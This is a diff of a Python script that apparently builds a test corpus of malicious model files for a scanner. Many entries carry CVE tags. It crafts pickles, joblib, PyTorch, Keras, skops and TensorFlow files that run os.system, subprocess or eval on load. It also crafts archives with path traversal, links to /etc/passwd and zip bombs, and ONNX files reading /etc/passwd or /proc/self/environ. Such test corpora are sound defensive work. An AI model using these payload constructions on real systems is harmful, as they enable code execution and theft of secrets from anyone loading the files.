+    "zlib-0": lambda d: zlib.compress(d, 0), "gzip-two-members": lambda d: gzip.compress(d[:9], mtime=0) + gzip.compress(d[9:], mtime=0),
+    "xz-two-streams": lambda d: lzma.compress(d[:9]) + lzma.compress(d[9:]),
+    "bz2-two-streams": lambda d: bz2.compress(d[:9]) + bz2.compress(d[9:]),
+    "gzip-named": lambda d: b"\x1f\x8b\x08\x08\0\0\0\0\0\xffmodel.json\0" + gzip.compress(d, mtime=0)[10:],
+    "zlib-truncated": lambda d: zlib.compress(d)[:-3], "gzip-wrong-crc": lambda d: gzip.compress(d, mtime=0)[:-8] + b"\0" * 8,
+    "gzip-in-gzip": lambda d: gzip.compress(gzip.compress(d, mtime=0), mtime=0),
+}
+for name, compress in COMPRESSED.items():
+    for protocol, content in [(0, OPCODES["protocol-0-global"]), (2, OPCODES["protocol-2-global"]), (4, system())]:
+        put("compressed/%s-%d.joblib" % (name, protocol), compress(content), "compressors")
+
+
+def wrapper(state, cls="joblib.numpy_pickle"):
+    """joblib's array wrapper with a state, made as it is made."""
+    return named(cls, "NumpyArrayWrapper") + b")\x81}(" + state + b"ub"
+
+
+DTYPE = lambda code, state: (call("numpy", "dtype", code, b"\x89", b"\x88") + b"(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xff"
+                             + state + b"tb")
+ARRAY = (text("subclass") + named("numpy", "ndarray") + text("shape") + b"K\x01\x85" + text("order") + text("C") + text("dtype"))
+OBJECTS = ARRAY + DTYPE("O8", b"K\x3f") + text("allow_mmap") + b"\x89"
+BYTES = ARRAY + DTYPE("u1", b"K\x00") + text("allow_mmap") + b"\x88"
+put("joblib/object-array.joblib", b"\x80\x04" + wrapper(OBJECTS) + system() + b".", "joblib's arrays")
+put("joblib/object-array-second.joblib", b"\x80\x04" + wrapper(OBJECTS) + benign + b"0" + wrapper(OBJECTS) + system() + b".", "joblib's arrays")
+put("joblib/object-array-zlib.joblib", zlib.compress(b"\x80\x04" + wrapper(OBJECTS) + system() + b"."), "joblib's arrays")
+put("joblib/behind-bytes.joblib", b"\x80\x04" + wrapper(BYTES) + b"." + call("os", "system", TOUCH) + b".", "joblib's arrays")
+put("joblib/subclass.joblib", b"\x80\x04" + wrapper(BYTES.replace(named("numpy", "ndarray"), named("subprocess", "Popen"))) + b"\x00.", "joblib's arrays")
+put("joblib/companion.joblib", b"\x80\x04" + named("joblib.numpy_pickle", "NDArrayWrapper") + b")\x81}(" + text("filename")
+    + text("other.npy") + text("subclass") + named("numpy", "ndarray") + text("allow_mmap") + b"\x89ub.", "joblib's arrays")
+put("joblib/vendored.joblib", b"\x80\x04" + wrapper(OBJECTS, "sklearn.externals.joblib.numpy_pickle") + system() + b".", "joblib's arrays")
+put("joblib/shape-lies.joblib", b"\x80\x04" + wrapper(BYTES.replace(b"K\x01\x85", b"J\xff\xff\xff\x7f\x85")) + b"." + system(), "joblib's arrays")
+put("joblib/old-zfile.joblib", b"ZF0x" + b"%17x" % len(inner) + zlib.compress(inner), "joblib's arrays")
+
+# 7. NumPy's own files
+
+
+def npy(pickled, shape="(1,)", descr="'|O'", version=1):
+    header = ("{'descr': %s, 'fortran_order': False, 'shape': %s, }" % (descr, shape)).encode()
+    header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
+    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<H" if version == 1 else "<I", len(header)) + header + pickled
+
+
+def archive(members, compression=zipfile.ZIP_STORED):
+    file = io.BytesIO()
+    with zipfile.ZipFile(file, "w", compression) as out:
+        for name, data in members:
+            out.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data, compression)
+    return file.getvalue()
+
+
+put("numpy/object.npy", npy(system()), "npy and npz")
+put("numpy/object-v2.npy", npy(system(), version=2), "npy and npz")
+put("numpy/structured.npy", npy(system(), descr="[('a', '<f8'), ('b', '|O')]"), "npy and npz")
+put("numpy/object.npz", archive([("a.npy", npy(b"\0" * 8, descr="'<f8'")), ("b.npy", npy(system()))]), "npy and npz")
+put("numpy/object-deflated.npz", archive([("arr_0.npy", npy(system()))], zipfile.ZIP_DEFLATED), "npy and npz")
+put("numpy/plain-pickle.npy", system(), "npy and npz")
+put("numpy/header-code.npy", npy(b"", descr="__import__('os').system(%r)" % TOUCH), "npy and npz")
+
+# 8. PyTorch's files
+
+CHECKPOINT = b"}" + text("w") + b"K\x01s"
+evil = whole(b"}" + text("w") + call("os", "system", TOUCH) + b"s", protocol=2)
+MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
+INFO = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)
+fine = whole(CHECKPOINT, protocol=2)
+version = ("a/version", b"3\n")
+torch_evil = archive([("a/data.pkl", evil), version])
+put("torch/zip.pt", torch_evil, "torch")
+put("torch/zip.bin", archive([("a/data.pkl", evil), ("a/byteorder", b"little"), version]), "torch")
+put("torch/zip-deflated.pth", archive([("a/data.pkl", evil), version], zipfile.ZIP_DEFLATED), "torch")
+put("torch/without-version.pt", archive([("a/data.pkl", evil)]), "torch")
+put("torch/twice.pt", archive([("a/data.pkl", fine), version, ("a/data.pkl", evil)]), "torch")
+put("torch/twice-case.pt", archive([("a/data.pkl", fine), version, ("a/DATA.PKL", evil)]), "torch")
+put("torch/upper-case.pt", archive([("a/DATA.pkl", evil), version]), "torch")
+put("torch/other-folder.pt", archive([("a/version", b"3\n"), ("b/data.pkl", evil)]), "torch")
+put("torch/in-a-storage.pt", archive([("a/data.pkl", whole(call("torch.storage", "_load_from_bytes", raw(inner)), protocol=2)), version]), "torch")
+put("torch/constants.pt", archive([("a/data.pkl", evil), ("a/constants.pkl", evil), version, ("a/code/__torch__.py", b"")]), "torch")
+put("torch/model-json.pt", archive([("a/model.json", b"{}"), ("a/data.pkl", evil), ("a/attributes.pkl", evil), version]), "torch")
+put("torch/package.pt", archive([("a/.data/version", b"1"), ("a/model/model.pkl", evil), ("a/.data/extern_modules", b"os\n")]), "torch")
+put("torch/legacy.pt", MAGIC + INFO + evil + pickle.dumps([], 2), "torch")
+put("torch/legacy-in-info.pt", MAGIC + evil + fine + pickle.dumps([], 2), "torch")
+put("torch/legacy-in-keys.pt", MAGIC + INFO + fine + evil, "torch")
+put("torch/legacy-magic-only.pt", pickle.dumps(0x1950A86A20F9469CFC6C, 2) + evil, "torch")
+put("torch/legacy-changed-magic.pt", whole(call("os", "system", TOUCH) + b"0" + MAGIC[2:14], protocol=2) + MAGIC[15:] + INFO + fine, "torch")
+put("torch/state-in-model.pt", archive([("a/data.pkl", whole(named("torch.nn.modules.linear", "Linear") + b")\x81}" + text("forward")
+    + named("os", "system") + b"sb", protocol=2)), version]), "torch")
+put("torch/not-a-module.pt", archive([("a/data.pkl", whole(named("torch.nn.modules.linear", "Linear.forward") + b")R", protocol=2)), version]), "torch")
+put("torch/script-saves.pt", archive([
+    ("a/data.pkl", whole(named("__torch__", "Net") + b")\x81", protocol=2)), ("a/constants.pkl", pickle.dumps((), 2)), version,
+    ("a/code/__torch__.py", b"class Net(Module):\n  def forward(self, x):\n    torch.save(x, \"" + canary.encode() + b"\")\n    return x\n")]),
+    "TorchScript")
+put("torch/script-reads.pt", archive([
+    ("a/data.pkl", whole(named("__torch__", "Net") + b")\x81", protocol=2)), ("a/constants.pkl", pickle.dumps((), 2)), version,
+    ("a/code/__torch__.py", b"class Net(Module):\n  def forward(self, x):\n    return torch.from_file(\"/etc/hostname\")\n")]),
+    "TorchScript")
+put("torch/script-constants.pt", archive([
+    ("a/data.pkl", whole(named("__torch__", "Net") + b")\x81", protocol=2)), ("a/constants.pkl", evil), version,
+    ("a/code/__torch__.py", b"class Net(Module):\n  pass\n")]), "TorchScript")
+put("torch/script-data.pt", archive([
+    ("a/data.pkl", evil), ("a/constants.pkl", pickle.dumps((), 2)), version, ("a/code/__torch__.py", b"")]), "TorchScript")
+tar = io.BytesIO()
+with tarfile.open(fileobj=tar, mode="w") as out:
+    for name, data in [("sys_info", pickle.dumps({"protocol_version": 1000}, 2)), ("pickle", evil), ("storages", evil), ("tensors", evil)]:
+        info = tarfile.TarInfo(name)
+        info.size = len(data)
+        out.addfile(info, io.BytesIO(data))
+put("torch/tar.pt", tar.getvalue(), "torch")
+
+# 9. Archives that readers disagree on
+
+
+def patched(data, changes):
+    data = bytearray(data)
+    for position, new in changes:
+        data[position:position + len(new)] = new
+    return bytes(data)
+
+
+base = torch_evil
+central = base.index(b"PK\x01\x02")
+put("archives/local-name-differs.pt", patched(base, [(30, b"a/data.bin")]), "archives", "CVE-2025-1944")
+put("archives/central-name-differs.pt", patched(base, [(central + 46, b"a/data.bin")]), "archives", "CVE-2025-1944")
+put("archives/encrypted-flag.pt", patched(base, [(central + 8, b"\x01")]), "archives", "CVE-2025-1945")
+put("archives/encrypted-flag-local.pt", patched(base, [(6, b"\x01")]), "archives", "CVE-2025-1945")
+put("archives/strong-encryption-flag.pt", patched(base, [(central + 8, b"\x40")]), "archives", "CVE-2025-1945")
+put("archives/patched-data-flag.pt", patched(base, [(central + 8, b"\x20")]), "archives", "CVE-2025-1945")
+put("archives/masked-header-flag.pt", patched(base, [(central + 9, b"\x20")]), "archives", "CVE-2025-1945")
+put("archives/wrong-crc.pt", patched(base, [(central + 16, b"\0\0\0\0"), (14, b"\0\0\0\0")]), "archives", "CVE-2025-10156")
+put("archives/method-differs.pt", patched(base, [(central + 10, b"\x08")]), "archives")
+put("archives/unknown-method.pt", patched(base, [(central + 10, b"\x63"), (8, b"\x63")]), "archives")
+put("archives/size-differs.pt", patched(base, [(central + 20, b"\x01\0\0\0")]), "archives")
+put("archives/prefix-pickle.pt", system() + torch_evil, "archives", "a pickle and an archive in one")
+put("archives/prefix-text.pt", b"#!/bin/sh\nexit\n" + torch_evil, "archives")
+put("archives/prefix-png.pt", b"\x89PNG\r\n\x1a\n" + b"\0" * 40 + torch_evil, "archives")
+put("archives/suffix.pt", torch_evil + b"\0" * 64, "archives")
+put("archives/comment-end.pt", torch_evil[:-2] + struct.pack("<H", 22) + b"PK\x05\x06" + b"\0" * 18, "archives")
+put("archives/two-archives.pt", archive([("a/data.pkl", fine), version]) + torch_evil, "archives")
+put("archives/no-directory.pt", torch_evil[:central], "archives")
+put("archives/traversal.pt", archive([("a/data.pkl", fine), version, ("a/../../../../" + canary, b"x")]), "archives")
+put("archives/absolute.pt", archive([("a/data.pkl", fine), version, (canary, b"x")]), "archives")
+put("archives/backslash.pt", archive([("a/data.pkl", fine), version, ("a\\..\\..\\x", b"x")]), "archives")
+put("archives/nested.zip", archive([("model.pt", torch_evil)]), "archives")
+put("archives/bomb.joblib", zlib.compress(bytes(1 << 20) * 64, 9), "archives", "64 MiB of zeros")
+put("archives/bomb-pickle.joblib", gzip.compress(b"\x80\x04" + b"(" * (32 << 20), mtime=0), "archives", "32 Mi marks")
+put("archives/pickle.zip", archive([("model.pkl", system())]), "archives")
+
+
+def tarred(build):
+    file = io.BytesIO()
+    with tarfile.open(fileobj=file, mode="w") as out:
+        build(out)
+    return file.getvalue()
+
+
+def member(name, data=b"", kind=tarfile.REGTYPE, link=""):
+    info = tarfile.TarInfo(name)
+    info.size, info.type, info.linkname = len(data), kind, link
+    return info, io.BytesIO(data)
+
+
+put("archives/traversal.tar", tarred(lambda t: t.addfile(*member("../../" + os.path.basename(canary), b"x"))), "archives")
+put("archives/link.tar", tarred(lambda t: [t.addfile(*member("l", kind=tarfile.SYMTYPE, link="/etc")), t.addfile(*member("l/x", b"x"))]), "archives")
+put("archives/hard-link.tar", tarred(lambda t: t.addfile(*member("l", kind=tarfile.LNKTYPE, link="../../etc/passwd"))), "archives")
+put("archives/model.tar.gz", gzip.compress(tarred(lambda t: t.addfile(*member("model.pkl", system()))), mtime=0), "archives")
+put("archives/weights.nemo", tarred(lambda t: t.addfile(*member("./model_weights.ckpt", torch_evil))), "archives")
+
+# 10. Wrong endings: content decides
+
+for ending in "txt json onnx safetensors h5 npy csv png md bin dat model ckpt".split():
+    put("endings/pickle." + ending, system(), "wrong endings", "CVE-2025-1889, CVE-2025-10155")
+    put("endings/protocol-0." + ending, OPCODES["protocol-0-global"], "wrong endings", "CVE-2025-1889, CVE-2025-10155")
+put("endings/torch.pkl", torch_evil, "wrong endings", "CVE-2025-10155")
+put("endings/torch.onnx", torch_evil, "wrong endings")
+put("endings/no-ending", system(), "wrong endings")
+put("endings/legacy-torch.safetensors", MAGIC + INFO + evil + pickle.dumps([], 2), "wrong endings")
+
+# 11. Keras
+
+
+def unpacked(data):
+    return zlib.decompress(base64.b64decode(data))
+
+
+# HDF5 files that h5py wrote: one with an empty group "layers", one with the attributes of a Keras model, its configuration
+# 1024 bytes of "@".
+EMPTY_H5 = unpacked(
+    "eNrr9HBx4+WS4mIAAQ4OBhYGAQZk8B8KNNhR+TD5BCjNCKU7oPQKJpg4I1hOAiouCDUfXV1IkKsrSPV/NACz5wErhOZgGAUjEXi4OgaA6AgoH5"
+    "ZKTzChqstJrEwtKkakRw8K7cWVfj2YIfwMVuT0y4Az/Y6C0fSLnH5h5VgHK3p6g4AAKtkb7OfvAkrBMPsUmFHtQU/HowA7AABF8UKc")
+MODEL_H5 = unpacked(
+    "eNrr9HBx4+WS4mIAAQ4OBhYGAQZk8B8KHnCj8mHyCVCaEUp3QOkVTDBxVrCcBFRcAGq+BjuEv4MFQocEubqCVP9HAzB7HrBCaA6GUTASgYerYw"
+    "CIjoDyYenpBBOqutz8lNSc+PLUzPSMkmKkdOlApr2MYIiwTxCafj2YIfwMVuT0y4Az/Y6C0fSLnH5h5VgHK3p6g4AAKtkb7OfvAkrBMPsUmFHt"
+    "QU/HowA7gOV79PqNh8EAGp58wDDmYMhOLUosji9LLSrOzM8DigsDA5oNKbyN9AxN9QyQ9XGAYVJicnZqXgpYPReS+pLUvOL8orSc/HKYfRosEH"
+    "28YH2Q8i45Py8tM50Bah+wEkeUe6NgFIyCEQsAGlFbSg==")
+
+
+def keras(layers, **more):
+    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": layers, **more}, "registered_name": None}
+    return archive([("config.json", json.dumps(config).encode()), ("metadata.json", b'{"keras_version": "3.4.1"}'), ("model.weights.h5", EMPTY_H5)])
+
+
+def layer(name, config, module="keras.layers", **more):
+    return dict({"module": module, "class_name": name, "config": config, "registered_name": None}, **more)
+
+
+bytecode = {"class_name": "__lambda__", "config": {"code": "4wAAAA==", "defaults": None, "closure": None}}
+lambda_layer = layer("Lambda", {"name": "l", "function": bytecode})
+function = lambda module, name: {"module": module, "class_name": "function", "config": name, "registered_name": name}
+KERAS = {
+    "lambda": [lambda_layer],
+    "lambda-nested": [layer("Sequential", {"name": "inner", "layers": [lambda_layer]}, "keras")],
+    "lambda-in-wrapper": [layer("TimeDistributed", {"name": "t", "layer": lambda_layer})],
+    "lambda-in-list": [layer("Dense", {"name": "d", "extra": [[lambda_layer]]})],
+    "function-os-system": [layer("Lambda", {"name": "l", "function": function("os", "system"), "arguments": {"command": TOUCH}})],
+    "function-eval": [layer("Lambda", {"name": "l", "function": function("builtins", "eval"), "arguments": {"source": PYTHON}})],
+    "activation-os-system": [layer("Dense", {"name": "d", "units": 1, "activation": function("os", "system")})],
+    "activation-exec": [layer("Dense", {"name": "d", "units": 1, "activation": function("builtins", "exec")})],
+    "activation-print": [layer("Dense", {"name": "d", "units": 1, "activation": function("builtins", "print")})],
+    "module-subprocess": [layer("Popen", {"args": TOUCH, "shell": True}, "subprocess")],
+    "module-pdb": [layer("Pdb", {}, "pdb")],
+    "module-importlib": [layer("import_module", {"name": "os"}, "importlib")],
+    "get-file": [layer("get_file", {"fname": canary, "origin": "file:///etc/hostname"}, "keras.utils")],
+    "enable-unsafe": [layer("function", {"x": 1}, "keras.config"), {"module": "keras.config", "class_name": "function",
+                      "config": "enable_unsafe_deserialization", "registered_name": "enable_unsafe_deserialization"}],
+    "load-model": [function("keras.models", "load_model")],
+    "saving-lib": [function("keras.src.saving.saving_lib", "load_model")],
+    "torch-wrapper": [layer("TorchModuleWrapper", {"name": "t", "module": "gAQu"})],
+    "saved-model-layer": [layer("TFSMLayer", {"name": "t", "filepath": "/tmp/other", "call_endpoint": "serve"})],
+    "vocabulary": [layer("StringLookup", {"name": "v", "vocabulary": "/etc/hostname"})],
+    "own-class": [layer("Backdoor", {"name": "b"}, "backdoor.layers")],
+    "through-keras": [function("keras.src.utils.file_utils.os", "system")],
+    "through-layers": [function("keras.layers.os", "system")],
+    "through-activations": [function("keras.src.activations.activations.sys", "exit")],
+}
+for name, layers in KERAS.items():
+    put("keras/%s.keras" % name, keras(layers), "Keras", "CVE-2025-1550, -8747, -9905, -9906, -12058" if "os" in name else "")
+
+
+def keras_h5(layers):
+    config = json.dumps({"class_name": "Sequential", "config": {"name": "m", "layers": layers}}).encode()
+    return MODEL_H5.replace(b"@" * 1024, config.ljust(1024))
+
+
+for name in ("lambda", "lambda-nested", "function-os-system", "activation-exec", "module-subprocess", "own-class"):
+    put("keras/%s.h5" % name, keras_h5(KERAS[name]), "Keras")
+    put("keras/%s.hdf5.pkl" % name, keras_h5(KERAS[name]), "Keras")
+put("keras/build-config.keras", keras([dict(layer("Dense", {"name": "d"}), build_config=lambda_layer)]), "Keras")
+put("keras/compile-config.keras", keras([], compile_config={"loss": function("os", "system")}), "Keras")
+put("keras/two-configs.keras", archive([("config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": []}}).encode()),
+    ("metadata.json", b'{"keras_version": "3.4.1"}'), ("model.weights.h5", EMPTY_H5),
+    ("config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": [lambda_layer]}}).encode())]), "Keras")
+put("keras/traversal.keras", archive([("config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": []}}).encode()),
+    ("metadata.json", b'{"keras_version": "3.4.1"}'), ("model.weights.h5", EMPTY_H5), ("../../" + os.path.basename(canary), b"x")]), "Keras")
+
+# 12. TensorFlow graphs
+
+
+def varint(n):
+    out = b""
+    while n > 127:
+        out, n = out + bytes([n & 127 | 128]), n >> 7
+    return out + bytes([n])
+
+
+def field(number, data):
+    return varint(number << 3 | 2) + varint(len(data)) + data if isinstance(data, bytes) else varint(number << 3) + varint(data)
+
+
+def saved_model(operations, in_function=False):
+    nodes = b"".join(field(1, field(1, b"n%d" % i) + field(2, op.encode())) for i, op in enumerate(operations))
+    if in_function:
+        body = field(1, field(1, b"f")) + b"".join(field(3, field(1, b"n") + field(2, op.encode())) for op in operations)
+        nodes = field(1, field(1, b"x") + field(2, b"NoOp")) + field(2, field(1, body))
+    graph = field(1, field(4, b"serve") + field(5, b"2.15.0")) + field(2, nodes)
+    return field(1, 1) + field(2, graph)
+
+
+for op in "ReadFile WriteFile PyFunc PyFuncStateless EagerPyFunc MatchingFiles WholeFileReaderV2 TFRecordDataset SaveDatasetV2 \
+        TextLineDataset FixedLengthRecordDatasetV2 DebugIdentityV3 CreateSummaryFileWriter RegisterDatasetV2".split():
+    put("savedmodel/" + op, {"saved_model.pb": saved_model(["Placeholder", op])}, "SavedModel graphs")
+for op in ("ReadFile", "WriteFile", "EagerPyFunc"):
+    put("savedmodel/in-function-" + op, {"saved_model.pb": saved_model([op], in_function=True)}, "SavedModel graphs")
+put("savedmodel/keras-metadata-lambda", {"saved_model.pb": saved_model(["EagerPyFunc", "WriteFile"]), "keras_metadata.pb": b""}, "SavedModel graphs")
+
+# 13. ONNX
+
+
+def onnx(location):
+    tensor = (field(1, 4) + field(2, 1) + field(8, b"w") + field(14, 1)
+              + field(13, field(1, b"location") + field(2, location.encode())) + field(13, field(1, b"length") + field(2, b"16")))
+    graph = (field(1, field(1, b"w") + field(2, b"y") + field(4, b"Identity")) + field(2, b"g") + field(5, tensor)
+             + field(12, field(1, b"y") + field(2, field(1, field(1, 1) + field(2, field(1, field(1, 4)))))))
+    return field(1, 8) + field(2, b"corpus") + field(7, graph) + field(8, field(1, b"") + field(2, 17))
+
+
+for name, location in {
+    "absolute": "/etc/passwd", "parent": "../../../../etc/passwd", "inner-parent": "weights/../../../secret", "backslash": "..\\..\\secret",
+    "dot-parent": "./../secret", "proc": "/proc/self/environ",
+}.items():
+    put("onnx/external-%s.onnx" % name, onnx(location), "ONNX external data", "CVE-2024-5187, CVE-2024-27318")
+
+# 14. Headers of formats without code
+
+
+def safetensors(header, data=b""):
+    header = header if isinstance(header, bytes) else json.dumps(header).encode()
+    return struct.pack("<Q", len(header)) + header + data
+
+
+T = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
+HEADERS = {
+    "length-past-end": struct.pack("<Q", 1 << 40) + b"{\"a\":", "length-negative": b"\xff" * 8 + b"{\"a\":1}",
+    "offsets-past-end": safetensors({"a": dict(T, data_offsets=[0, 1 << 40], shape=[1 << 38])}),
+    "offsets-overlap": safetensors({"a": T, "b": T}, bytes(8)), "offsets-reversed": safetensors({"a": dict(T, data_offsets=[8, 0])}, bytes(8)),
+    "shape-overflow": safetensors({"a": dict(T, shape=[1 << 62, 1 << 62])}, bytes(8)),
+    "not-json": safetensors(b'{"a": __import__("os")}', bytes(8)),
+    "hole": safetensors({"a": dict(T, data_offsets=[8, 16])}, bytes(16)), "trailing": safetensors({"a": T}, bytes(8) + system()),
+    "deep": safetensors(b'{"a":' + b"[" * 100000, bytes(8)),
+}
+for name, content in HEADERS.items():
+    put("headers/%s.safetensors" % name, content, "safetensors headers")
+GGUF = {
+    "counts": b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1 << 60), "text-past-end": b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 60),
+    "array-nested": b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1) + b"a" + struct.pack("<IIQ", 9, 9, 1) * 2000,
+    "truncated": b"GGUF\x03\0\0\0", "version": b"GGUF" + struct.pack("<IQQ", 99, 0, 0),
+    "dimensions": b"GGUF" + struct.pack("<IQQ", 3, 1, 0) + struct.pack("<Q", 1) + b"t" + struct.pack("<I", 0xFFFFFFFF),
+    "zero-alignment": b"GGUF" + struct.pack("<IQQ", 3, 1, 1) + struct.pack("<Q", 17) + b"general.alignment" + struct.pack("<II", 4, 0)
+    + struct.pack("<Q", 1) + b"t" + struct.pack("<IQIQ", 1, 8, 0, 0) + bytes(64),
+}
+for name, content in GGUF.items():
+    put("headers/%s.gguf" % name, content, "GGUF headers")
+
+# 15. skops
+
+
+def skops(node):
+    return archive([("schema.json", json.dumps(dict(node, protocol=2, _skops_version="0.11.0")).encode())])
+
+
+node = lambda cls, module, loader="ObjectNode", **more: dict({"__class__": cls, "__module__": module, "__loader__": loader, "__id__": 1}, **more)
+SKOPS = {
+    "object-popen": node("Popen", "subprocess"), "type-system": node("system", "os", "TypeNode"),
+    "function-system": node("system", "os", "FunctionNode", content="os"), "reduce-system": node("system", "os", "ConstructorFromReduceNode", content={}),
+    "method": node("system", "os", "MethodNode", content={"func": "system", "obj": node("SVC", "sklearn.svm._classes")}),
+    "operator": node("methodcaller", "operator", "OperatorFuncNode", attrs=node("tuple", "builtins", "TupleNode", content=[])),
+    "unknown-node": node("SVC", "sklearn.svm._classes", "BackdoorNode"), "partial": node("partial", "functools", "PartialNode", content={}),
+    "tree-constructor": node("Tree", "sklearn.tree._tree", "TreeNode", constructor=["os", "system"]),
+    "getattr": node("getattr", "builtins", "FunctionNode"),
+}
+for name, content in SKOPS.items():
+    put("skops/%s.skops" % name, skops(content), "skops", "CVE-2025-54412, -54413, -54886" if name in ("method", "operator") else "")
+
+with open(os.path.join(folder, "MANIFEST.json"), "w") as file:
+    json.dump(manifest, file, indent=1, sort_keys=True)
+print("%d files" % len(manifest))
